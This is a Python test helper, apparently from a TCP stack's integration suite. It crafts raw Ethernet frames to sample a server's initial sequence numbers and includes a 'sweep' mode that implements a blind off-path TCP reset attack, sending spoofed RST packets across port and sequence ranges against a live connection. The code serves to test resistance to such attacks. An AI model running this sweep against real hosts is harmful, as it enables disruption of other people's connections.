#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""tcp-isn.py - initial sequence numbers of a TCP server, and a blind
reset sweep against a live connection (docs/tcp.md, "Initial sequence
numbers"; tests/integration/t_tcp.sh, tcp_isn).

  tcp-isn.py isn IFACE DST_MAC SRC_IP DST_IP PORT [--count N]
      N SYNs (default 2) by hand with AF_PACKET on IFACE, each from its
      own source port, to DST_IP:PORT; prints "isn SEQ" for the SYN-ACK
      each gets (the server's initial sequence number).  The kernel of
      SRC_IP resets the half-open connections (no socket has the ports).

  tcp-isn.py sweep IFACE DST_MAC SRC_IP DST_IP SPORT LO HI SEQ K
      A blind off-path attacker who knows both addresses and the
      server's port SPORT, not the client's port nor the sequence
      numbers: for every destination port LO..HI and every sequence
      number SEQ..SEQ+K-1, one RST from SRC_IP:SPORT to DST_IP, as fast
      as Python sends them (bounded: (HI-LO+1)*K frames, at most 60 s).
      Prints "sweep sent=N secs=T".

Exit 0 on success.
"""
import os
import socket
import struct
import sys
import time

from inet_csum import csum_add, fold

ETH_P_IP = 0x0800
ETH_P_ALL = 0x0003


def mac(s):
    return bytes(int(x, 16) for x in s.split(":"))


def frame(dmac, smac, sip, dip, sport, dport, seq, ack, flags, win=65535):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq & 0xFFFFFFFF, ack & 0xFFFFFFFF,
                      5 << 4, flags, win, 0, 0)
    c = fold(csum_add(sip + dip + struct.pack("!BBH", 0, 6, len(tcp)) + tcp))
    tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0, sip, dip)
    ip = ip[:10] + struct.pack("!H", fold(csum_add(ip))) + ip[12:]
    f = dmac + smac + struct.pack("!H", ETH_P_IP) + ip + tcp
    return f + b"\0" * max(0, 60 - len(f))


def isn(a):
    ifname, dmac, sip, dip, port = a[0], mac(a[1]), socket.inet_aton(a[2]), \
        socket.inet_aton(a[3]), int(a[4])
    count = int(a[a.index("--count") + 1]) if "--count" in a else 2
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    raw.bind((ifname, 0))
    smac = raw.getsockname()[4]
    base = 20000 + os.getpid() % 10000
    for i in range(count):
        sport = base + i
        raw.send(frame(dmac, smac, sip, dip, sport, port, 1000 + i, 0, 0x02))
        deadline = time.time() + 5
        while True:
            left = deadline - time.time()
            if left <= 0:
                sys.exit("no SYN-ACK for the SYN from port %d" % sport)
            raw.settimeout(left)
            f = raw.recv(2048)
            if len(f) < 54 or f[12:14] != b"\x08\x00" or f[23] != 6:
                continue
            ihl = (f[14] & 15) * 4
            t = f[14 + ihl:]
            sp, dp, seq, ack = struct.unpack("!HHII", t[:12])
            if f[26:30] == dip and sp == port and dp == sport and t[13] & 0x12 == 0x12:
                if ack != 1001 + i:
                    sys.exit("SYN-ACK acknowledges %d, not %d" % (ack, 1001 + i))
                print("isn %d" % seq, flush=True)
                break


def sweep(a):
    ifname, dmac, sip, dip = a[0], mac(a[1]), socket.inet_aton(a[2]), socket.inet_aton(a[3])
    sport, lo, hi, seq0, k = (int(x) for x in a[4:9])
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.bind((ifname, 0))
    smac = raw.getsockname()[4]
    # One template; per frame only the port, the sequence number and the
    # checksum change (the checksum from a precomputed partial sum).
    tmpl = bytearray(frame(dmac, smac, sip, dip, sport, 0, 0, 0, 0x04, 0))
    tcp_off = 14 + 20
    tmpl[tcp_off + 16:tcp_off + 18] = b"\0\0"
    base = csum_add(sip + dip + struct.pack("!BBH", 0, 6, 20) + bytes(tmpl[tcp_off:tcp_off + 20]))
    sent, t0 = 0, time.time()
    for s in range(seq0, seq0 + k):
        s &= 0xFFFFFFFF
        s_sum = base + (s >> 16) + (s & 0xFFFF)
        struct.pack_into("!I", tmpl, tcp_off + 4, s)
        for dport in range(lo, hi + 1):
            struct.pack_into("!H", tmpl, tcp_off + 2, dport)
            struct.pack_into("!H", tmpl, tcp_off + 16, fold(s_sum + dport))
            raw.send(tmpl)
            sent += 1
        if time.time() - t0 > 60:
            break
    print("sweep sent=%d secs=%.2f" % (sent, time.time() - t0), flush=True)


def main():
    if len(sys.argv) < 2 or sys.argv[1] not in ("isn", "sweep"):
        sys.exit(__doc__)
    (isn if sys.argv[1] == "isn" else sweep)(sys.argv[2:])


if __name__ == "__main__":
    main()
